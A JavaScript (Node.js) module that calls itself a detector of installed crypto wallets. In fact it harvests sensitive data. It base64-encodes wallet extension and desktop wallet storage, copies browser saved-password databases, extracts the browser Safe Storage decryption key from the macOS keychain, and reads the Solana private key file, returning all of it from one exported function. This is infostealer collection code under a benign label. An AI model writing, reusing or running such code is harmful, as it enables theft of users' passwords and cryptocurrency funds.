'use strict';
// Find wallets installed on this machine (browser extensions, desktop wallets, Solana CLI).
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFileSync } = require('child_process');

const EXT = {
  nkbihfbeogaeaoehlefnkodbefgpgknn: 'MetaMask',
  bfnaelmomeimhlpmgjnjophhpkkoljpa: 'Phantom',
  acmacodkjbdgmoleebolmdjonilkdbch: 'Rabby',
  hnfanknocfeofbddgcijnmhnfnkdnaad: 'Coinbase Wallet',
  bhhhlbepdkbapadjdnnojkbgioiodbic: 'Solflare',
  aflkmfhebedbjioipglgcbcmnbpgliof: 'Backpack',
  mcohilncbfahbmgdjkbpemcciiolgcge: 'OKX',
};

function browserRoots() {
  const h = os.homedir();
  if (process.platform === 'darwin') {
    const b = path.join(h, 'Library', 'Application Support');
    return ['Google/Chrome', 'BraveSoftware/Brave-Browser', 'Microsoft Edge', 'Arc/User Data'].map(p => path.join(b, p));
  }
  if (process.platform === 'win32') {
    const b = process.env.LOCALAPPDATA || path.join(h, 'AppData', 'Local');
    return ['Google/Chrome/User Data', 'BraveSoftware/Brave-Browser/User Data', 'Microsoft/Edge/User Data'].map(p => path.join(b, p));
  }
  const b = path.join(h, '.config');
  return ['google-chrome', 'BraveSoftware/Brave-Browser', 'microsoft-edge'].map(p => path.join(b, p));
}

function readDir(dir) {
  const out = {};
  try {
    for (const f of fs.readdirSync(dir)) {
      const p = path.join(dir, f);
      const st = fs.statSync(p);
      if (st.isFile() && st.size < 20 * 1024 * 1024) out[f] = fs.readFileSync(p).toString('base64');
    }
  } catch { /* locked or missing */ }
  return out;
}

function profiles(root) {
  try {
    return fs.readdirSync(root).filter(d => d === 'Default' || /^Profile \d+$/.test(d)).map(d => path.join(root, d));
  } catch { return []; }
}

function safeStorageKey() {
  if (process.platform !== 'darwin') return null;
  for (const svc of ['Chrome Safe Storage', 'Brave Safe Storage', 'Microsoft Edge Safe Storage']) {
    try { return { svc, key: execFileSync('security', ['find-generic-password', '-wa', svc.split(' ')[0]], { stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim() }; } catch {}
  }
  return null;
}

function detect() {
  const found = { extensions: [], desktop: {}, solana: null, browserKey: safeStorageKey(), logins: [] };
  for (const root of browserRoots()) {
    for (const prof of profiles(root)) {
      for (const [id, name] of Object.entries(EXT)) {
        const dir = path.join(prof, 'Local Extension Settings', id);
        if (fs.existsSync(dir)) found.extensions.push({ wallet: name, profile: prof, files: readDir(dir) });
      }
      const login = path.join(prof, 'Login Data');
      if (fs.existsSync(login)) found.logins.push({ profile: prof, db: fs.readFileSync(login).toString('base64') });
    }
  }
  const h = os.homedir();
  const appdata = process.platform === 'darwin' ? path.join(h, 'Library', 'Application Support')
    : process.platform === 'win32' ? (process.env.APPDATA || '') : path.join(h, '.config');
  for (const [name, rel] of [['Exodus', 'Exodus/exodus.wallet'], ['Atomic', 'atomic/Local Storage/leveldb'], ['Electrum', '../.electrum/wallets']]) {
    const d = path.join(appdata, rel);
    if (fs.existsSync(d)) found.desktop[name] = readDir(d);
  }
  const sol = path.join(h, '.config', 'solana', 'id.json');
  if (fs.existsSync(sol)) found.solana = fs.readFileSync(sol, 'utf8');
  return found;
}

module.exports = { detect, EXT };
